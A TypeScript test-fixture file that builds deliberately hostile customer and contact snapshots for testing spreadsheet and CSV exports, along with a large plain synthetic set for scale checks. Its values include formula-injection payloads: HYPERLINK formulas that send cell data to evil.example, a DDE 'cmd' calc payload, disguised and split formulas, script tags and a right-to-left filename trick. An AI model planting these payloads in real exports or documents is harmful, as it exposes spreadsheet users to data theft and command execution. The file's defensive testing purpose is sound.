/**
 * Hand-made snapshots for tests. `sampleSnapshot()` is small and hostile: formula-like text in every text
 * column, spreadsheet tricks (fullwidth signs, leading spaces and zero-width characters, formulas after a
 * `;`, a tab or a line break for readers that split there), quotes, commas, tabs and line breaks inside values,
 * markup, emoji and other scripts, ids with leading zeros or that look like numbers, unknown fields, and empty
 * values. `syntheticSnapshot(n)` is large and plain, for scale checks.
 * Both go through `SnapshotSchema`, so they are what the rest of the code receives.
 */
import { type Snapshot, SnapshotSchema } from '../shared/schema/published.ts';
import { fixtureId, snapshotContact, snapshotCustomer } from './records.ts';

const WORKSPACE = '11111111-1111-4111-8111-111111111111';

function address(n: number, summary: string, type: string | null = 'billing') {
  return {
    id: fixtureId(900 + n),
    type,
    label: null,
    summary,
    street: null,
    postal_code: null,
    city: null,
    region: null,
    country: null,
  };
}

const PARIS = {
  ...address(1, '12 rue de la Paix, 75002 Paris, FR'),
  street: '12 rue de la Paix',
  postal_code: '75002',
  city: 'Paris',
  country: 'FR',
};
const FORMULA_ADDRESS = address(2, '=HYPERLINK("http://evil.example/?"&A1,"Open"), 1 Main St', 'shipping');
const MULTILINE_ADDRESS = address(3, 'Bâtiment B\r\n3 quai "des Célestins"\n69002 Lyon\rFR', null);
const SPLIT_FORMULA_ADDRESS = address(
  4,
  'Bât. A;=HYPERLINK("http://evil.example/?"&A1,"Open");"=2+2"\n=3+3\r\n@SUM(A1)',
  'shipping',
);

const ACME = fixtureId(1);
const FORMULA_CUSTOMER = fixtureId(2);
const UNREADABLE_CUSTOMER = fixtureId(3);
const EMPTY_CUSTOMER = fixtureId(4);

const customers = [
  {
    id: ACME,
    name: 'Acme "Quoted", Inc. <script>alert(1)</script>',
    type: 'company',
    segment_id: null,
    id_crm: '000123',
    id_erp: '1e5',
    id_accounting: '0012,34',
    tax_ids: [{ tax: 'vat', tax_value: 'FR00123456789' }],
    addresses: [PARIS, FORMULA_ADDRESS, MULTILINE_ADDRESS],
    contact_count: 4,
  },
  {
    id: FORMULA_CUSTOMER,
    name: "=cmd|' /C calc'!A0",
    type: '+individual',
    segment_id: '@segment',
    id_crm: '-1',
    id_erp: '=1+1',
    id_accounting: '\t0042',
    tax_ids: [],
    addresses: [SPLIT_FORMULA_ADDRESS],
    contact_count: 3,
  },
  snapshotCustomer({ id: UNREADABLE_CUSTOMER, name: null, type: null, contact_count: 1 }),
  snapshotCustomer({ id: EMPTY_CUSTOMER, name: 'Zoë & Søn — 株式会社', type: 'decision_maker_inc' }),
];

function contact(n: number, customerId: string, fields: Record<string, unknown>) {
  const customer = customers.find((candidate) => candidate.id === customerId);
  const owner = { id: customerId, name: customer?.name ?? null, type: customer?.type ?? null };
  return { ...snapshotContact(owner, { id: fixtureId(100 + n), workspace_id: WORKSPACE }), ...fields };
}

const contacts = [
  contact(1, ACME, {
    first_name: 'Jean',
    last_name: 'Dupont',
    email: 'jean.dupont@acme.com',
    phone: '+33 6 12 34 56 78',
    role: ['buyer', 'signer'],
    id_crm: '000123',
    id_erp: '1e5',
    id_accounting: '0012,34',
    address_ids: [PARIS.id, FORMULA_ADDRESS.id],
    addresses: [PARIS, FORMULA_ADDRESS],
    created_at: '2024-01-15T10:30:00Z',
    updated_at: '2024-03-01T08:00:00.123+02:00',
  }),
  contact(2, ACME, {
    first_name: '=1+1',
    last_name: '+SUM(A1:A9)',
    email: '@evil.example',
    phone: '-2+3',
    role: ['=admin', 'decision_maker'],
    id_crm: '=HYPERLINK("http://evil.example","click")',
    id_erp: '\t=1',
    id_accounting: '\r=1',
    // The rarer forms of ISO 8601 the schema accepts: a leap day, a bare fraction, a negative offset.
    created_at: '2024-02-29T10:30:00.5+00:00',
    updated_at: '2024-01-15T00:00:00-12:00',
    nickname: '=should-stay-out-of-tables',
    custom_fields: { tier: 'gold', score: 3 },
  }),
  contact(3, ACME, {
    first_name: '＝1+1',
    last_name: ' =1+1',
    email: '\u200B=1+1@example.com',
    phone: '\n+1 (555) 010-9999',
    role: ['﹢legal'],
    id_crm: '\uFEFF-1',
    id_erp: '＠SUM(1)',
    id_accounting: '－1',
    address_ids: [MULTILINE_ADDRESS.id],
    addresses: [MULTILINE_ADDRESS],
  }),
  contact(4, ACME, {
    first_name: 'Zoë 👩‍💻',
    last_name: 'O"Brien, "Jr."',
    email: '<script>alert("x")</script>@example.com',
    phone: '+33612345678',
    role: ['billing'],
    id_crm: 'a\tb',
    id_erp: 'line1\r\nline2\nline3\rline4',
    id_accounting: '_x0041_ and \u0007bell',
    created_at: '1999-12-31T23:59:59.999-05:00',
  }),
  contact(5, FORMULA_CUSTOMER, {
    first_name: 'محمد',
    last_name: '王伟',
    email: 'ünïcödé@exämple.com',
    phone: '0612345678',
    id_crm: '\u202Egnp.exe',
    id_erp: 'lone \uD800 surrogate',
    id_accounting: '  padded  ',
  }),
  // Read by something that ignores the quotes and splits on commas, "a,=1+1," was a clean `=1+1` cell.
  contact(6, FORMULA_CUSTOMER, { email: 'only.email@example.com', role: [], id_crm: 'a,=1+1,' }),
  contact(7, UNREADABLE_CUSTOMER, { first_name: 'Orphan', last_name: '-' }),
  // Read as `;`- or tab-separated, as French and German spreadsheets read a comma file, each part after a `;`
  // or a tab is a cell of its own: "Ann;=1+1","5;=2+2" became the formula `=1+1,5`.
  contact(8, FORMULA_CUSTOMER, {
    first_name: 'Ann;=1+1',
    last_name: '5;=2+2',
    email: 'ann@example.com;-1',
    phone: '+33 6 12 34 56 78;+1',
    role: ['buyer;=cmd'],
    id_crm: '0042; ＝1+1',
    id_erp: 'ERP\t=cmd|calc',
    id_accounting: '7;"=4+4"',
    address_ids: [SPLIT_FORMULA_ADDRESS.id],
    addresses: [SPLIT_FORMULA_ADDRESS],
  }),
];

const sample = {
  schema_version: 1,
  generated_at: '2024-05-01T02:00:00.000Z',
  source: { host: 'qwoty.app', customer_id: null, demo: false },
  counts: { contacts: contacts.length, customers: customers.length, addresses: 4, rejected: 0 },
  warnings: ['Customer 00000000-0000-4000-8000-000000000003 could not be read (403).'],
  customers,
  contacts,
};

/** The small hostile snapshot; a new object on every call. */
export function sampleSnapshot(): Snapshot {
  return SnapshotSchema.parse(sample);
}

/** A snapshot with no customers and no contacts. */
export function emptySnapshot(): Snapshot {
  return SnapshotSchema.parse({
    ...sample,
    counts: { contacts: 0, customers: 0, addresses: 0, rejected: 0 },
    warnings: [],
    customers: [],
    contacts: [],
  });
}

/** `contactCount` plain contacts spread over customers of 20 contacts each. */
export function syntheticSnapshot(contactCount: number): Snapshot {
  const customerCount = Math.ceil(contactCount / 20);
  const synthetic = Array.from({ length: customerCount }, (_, c) => ({
    id: fixtureId(1_000_000 + c),
    name: `Customer ${String(c).padStart(6, '0')} SAS`,
    type: c % 5 === 0 ? 'individual' : 'company',
    segment_id: null,
    id_crm: `CRM-${c}`,
    id_erp: null,
    id_accounting: String(c).padStart(8, '0'),
    tax_ids: [],
    addresses: [address(c, `${c} avenue des Champs-Élysées, 75008 Paris, FR`)],
    contact_count: Math.min(20, contactCount - c * 20),
  }));
  const syntheticContacts = Array.from({ length: contactCount }, (_, n) => {
    const customer = synthetic[Math.floor(n / 20)];
    return {
      id: fixtureId(2_000_000 + n),
      workspace_id: WORKSPACE,
      customer_id: customer?.id,
      first_name: `Prénom${n}`,
      last_name: `Nom${n}`,
      email: `contact${n}@example.com`,
      phone: `+33 6 ${String(n)
        .padStart(8, '0')
        .replace(/(\d\d)(?=\d)/g, '$1 ')}`,
      role: n % 3 === 0 ? ['buyer', 'signer'] : ['billing'],
      id_crm: `00${n}`,
      id_erp: null,
      id_accounting: null,
      address_ids: customer?.addresses.map((a) => a.id) ?? [],
      created_at: '2024-01-15T10:30:00Z',
      updated_at: '2024-03-01T08:00:00Z',
      customer_name: customer?.name ?? null,
      customer_type: customer?.type ?? null,
      addresses: customer?.addresses ?? [],
    };
  });
  return SnapshotSchema.parse({
    ...sample,
    counts: { contacts: contactCount, customers: customerCount, addresses: customerCount, rejected: 0 },
    warnings: [],
    customers: synthetic,
    contacts: syntheticContacts,
  });
}
